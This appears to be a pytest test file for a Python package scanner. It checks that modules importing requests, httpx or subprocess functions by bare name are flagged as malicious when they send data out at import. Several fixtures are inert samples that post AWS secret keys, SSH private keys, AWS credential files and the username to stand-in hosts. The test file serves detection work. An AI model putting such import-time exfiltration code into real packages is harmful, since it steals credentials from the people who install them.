"""Sink functions imported by their bare name (`from requests import post`): their calls are sinks
for the choice of modules the full analysis reads. Payloads are inert (TEST-NET and `.invalid`
hosts); the archives are only read as bytes."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from custody.scan import Scanner, ScanTask, Verdict
from custody.scan.bare_sinks import bare_sink_calls, bare_sink_names
from tests.scan.builders import DEFAULT_NAME, write_sdist

PKG = DEFAULT_NAME
# A large module (past the size under which every module with a sink is parsed anyway) of
# ordinary helpers, so the only thing that can select it is its sink calls.
FILLER = "".join(
    f"\n\ndef helper_{i}(values):\n    total = 0\n    for value in values:\n        total += value * {i}\n"
    "    return total\n"
    for i in range(40)
)


def _scan(tmp_path: Path, module: str) -> tuple[Verdict, set[str]]:
    client = textwrap.dedent(module) + FILLER
    files = {f"{PKG}/__init__.py": "from . import client\n", f"{PKG}/client.py": client}
    (result,) = Scanner().scan_task(ScanTask(str(write_sdist(tmp_path, files))))
    return result.verdict, {f"{f.rule}:{f.severity.value}" for f in result.findings}


@pytest.mark.parametrize(
    "module",
    [
        # the environment posted at import through a bare-imported requests.post
        """
        import os
        from requests import post

        def _sync():
            post("https://collect.example.invalid/e", data=os.getenv("AWS_SECRET_ACCESS_KEY"))

        _sync()
        """,
        # the same through an alias in a parenthesised import
        """
        import os
        from httpx import (
            Client,
            post as _send,
        )

        def report():
            _send("http://192.0.2.10/r", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())

        report()
        """,
        # a star import of the client library
        """
        import os
        from requests import *

        def _sync():
            post("https://collect.example.invalid/e", data=os.getenv("AWS_SECRET_ACCESS_KEY"))

        _sync()
        """,
        # the module imported under another name
        """
        import os, requests as rq

        def _sync():
            rq.post("http://192.0.2.11/e", data=open(os.path.expanduser("~/.aws/credentials")).read())

        _sync()
        """,
        # the user's name and machine sent out at import by a bare-imported subprocess.run
        """
        import getpass
        from subprocess import run

        run(["wget", "-q", "http://192.0.2.9/b?u=" + getpass.getuser()])
        """,
    ],
)
def test_bare_imported_sink_called_at_import_is_judged(tmp_path: Path, module: str) -> None:
    verdict, rules = _scan(tmp_path, module)
    assert verdict is Verdict.MALICIOUS, rules


@pytest.mark.parametrize(
    "module",
    [
        # an API client: sends what its caller gives it, when called
        """
        from requests import get, post

        def fetch(url, params=None):
            return get(url, params=params, timeout=10).json()

        def submit(url, payload):
            return post(url, json=payload, timeout=10)
        """,
        # a build helper that runs a compiler when asked
        """
        from subprocess import run, CalledProcessError

        def compile_extension(sources):
            try:
                run(["cc", "-shared", "-o", "ext.so", *sources], check=True)
            except CalledProcessError:
                return False
            return True
        """,
    ],
)
def test_bare_imported_sink_in_library_functions_stays_clean(tmp_path: Path, module: str) -> None:
    verdict, rules = _scan(tmp_path, module)
    assert verdict is Verdict.CLEAN, rules


def test_names_and_calls() -> None:
    source = (
        b"from requests import Session, get\n"
        b"from subprocess import (\n    run as sh,\n    PIPE,\n)\n"
        b"from socket import socket\n"
        b"def get(x):\n    pass\n"
        b"sh('ls')\nself.get(1)\nforget(2)\nget (3)\nsocket()\n"
    )
    names = bare_sink_names(source)
    assert names == {b"get", b"sh", b"socket"}
    calls = bare_sink_calls(source, names)
    assert [source[c : c + 3] for c in calls] == [b"sh(", b"get", b"soc"]
    assert bare_sink_names(b"import requests\nfrom os import path\n") == frozenset()
    aliased = bare_sink_names(b"import os, requests as rq\nimport subprocess as subprocess\n")
    assert b"rq.post" in aliased and not any(n.startswith(b"subprocess.") for n in aliased)
    assert b"run" in bare_sink_names(b"from subprocess import *\n")
